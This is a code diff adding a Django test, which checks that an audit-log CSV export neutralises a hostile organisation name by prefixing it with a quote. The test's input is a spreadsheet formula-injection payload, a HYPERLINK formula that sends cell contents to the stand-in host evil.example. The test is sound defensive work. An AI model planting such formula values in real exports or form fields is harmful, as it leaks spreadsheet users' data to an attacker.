@@ -114,3 +114,19 @@ def test_outsider_cannot_export_the_audit_log(verified_client, outsider):
     client = verified_client(outsider)
     _grant_sudo(client)
     assert client.get(reverse("audit:export")).status_code == 403
+
+
+def test_export_makes_a_hostile_organisation_name_inert(verified_client, programme_admin, organisation):
+    import csv
+    import io
+
+    # Organisation names come from public enquiries.
+    organisation.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    organisation.save(update_fields=["name"])
+    with transaction.atomic():
+        AuditEntry.objects.create(action="saferwork.case.opened", organisation=organisation)
+    client = verified_client(programme_admin)
+    _grant_sudo(client)
+    response = client.get(reverse("audit:export"), {"organisation": organisation.pk})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1][3] == "'" + organisation.name
